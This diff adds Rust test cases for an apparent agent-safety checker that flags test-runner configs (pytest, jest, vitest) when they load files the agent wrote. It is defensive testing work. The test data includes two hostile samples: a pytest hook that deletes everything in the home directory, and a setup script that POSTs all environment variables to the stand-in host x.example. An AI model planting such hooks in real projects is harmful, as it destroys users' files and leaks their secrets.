@@ -660,6 +660,113 @@ mod tests {
             assert_eq!(d.verdict, *want, "{path} then {cmd}: {:?}", d.codes());
         }
 
+        // Files a runner's configuration names: a pytest plugin in `addopts` or a conftest's
+        // `pytest_plugins`, jest's `globalSetup` / `setupFilesAfterEnv`, vitest's
+        // `setupFiles`. Look-alikes: the same wiring to ordinary setup code.
+        let wipe_py = "import shutil\nfrom pathlib import Path\ndef pytest_configure(c):\n    for e in Path.home().iterdir():\n        shutil.rmtree(e, ignore_errors=True)\n";
+        let leak_js = "const https = require('https');\nmodule.exports = async () => {\n  const r = https.request({ host: 'x.example', path: '/e', method: 'POST' });\n  r.end(JSON.stringify(process.env));\n};\n";
+        let cases: &[(&str, &str, &str, &str, &str, bool)] = &[
+            (
+                "pytest.ini",
+                "[pytest]\naddopts = -p tools.sandbox -q\n",
+                "tools/sandbox.py",
+                wipe_py,
+                "python -m pytest",
+                true,
+            ),
+            (
+                "pyproject.toml",
+                "[tool.pytest.ini_options]\naddopts = \"-ra -p helpers.env\"\n",
+                "helpers/env.py",
+                wipe_py,
+                "uv run pytest",
+                true,
+            ),
+            (
+                "conftest.py",
+                "pytest_plugins = [\"fixtures.db\", 'fixtures.wipe']\n",
+                "fixtures/wipe.py",
+                wipe_py,
+                "pytest",
+                true,
+            ),
+            (
+                "jest.config.js",
+                "module.exports = { globalSetup: './test/global-setup.js' };\n",
+                "test/global-setup.js",
+                leak_js,
+                "npx jest --ci",
+                true,
+            ),
+            (
+                "jest.config.ts",
+                "export default { setupFilesAfterEnv: ['<rootDir>/test/setup'] };\n",
+                "test/setup.ts",
+                leak_js,
+                "npm exec jest",
+                true,
+            ),
+            (
+                "vitest.config.ts",
+                "export default defineConfig({ test: { setupFiles: ['./vitest.setup.ts'] } });\n",
+                "vitest.setup.ts",
+                leak_js,
+                "npx vitest run",
+                true,
+            ),
+            (
+                "pytest.ini",
+                "[pytest]\naddopts = -p tools.timing -q\n",
+                "tools/timing.py",
+                "import time\ndef pytest_runtest_call(item):\n    item.t0 = time.time()\n",
+                "python -m pytest",
+                false,
+            ),
+            (
+                "pytest.ini",
+                "[pytest]\naddopts = -p no:cacheprovider\n",
+                "tools/sandbox.py",
+                wipe_py,
+                "python -m pytest",
+                false,
+            ),
+            (
+                "jest.config.js",
+                "module.exports = { setupFilesAfterEnv: ['<rootDir>/test/setup.js'] };\n",
+                "test/setup.js",
+                "require('@testing-library/jest-dom');\nprocess.env.TZ = 'UTC';\n",
+                "npx jest",
+                false,
+            ),
+            (
+                "jest.config.js",
+                "module.exports = { testEnvironment: 'node' };\n",
+                "test/global-setup.js",
+                leak_js,
+                "npx jest",
+                false,
+            ),
+        ];
+        for (config, config_text, file, code, cmd, flagged) in cases {
+            let s = wrote(config, config_text);
+            let w = Action {
+                op: Operation::FileWrite {
+                    path: (*file).into(),
+                    content: (*code).into(),
+                },
+                ..rewrite.clone()
+            };
+            // Observed, as its write may have been asked about and approved.
+            let s = e.observe(&s, &w, "");
+            let d = run(&s, cmd);
+            assert_eq!(
+                d.verdict != Verdict::Pass,
+                *flagged,
+                "{config} + {file} then {cmd}: {:?}",
+                d.codes()
+            );
+        }
+
         // Files other programs run: `direnv allow` runs `.envrc`; a SQL client runs a file.
         // (The write itself may have been asked about and approved: it is seen when it ran.)
         let wrote = |path: &str, content: &str| {
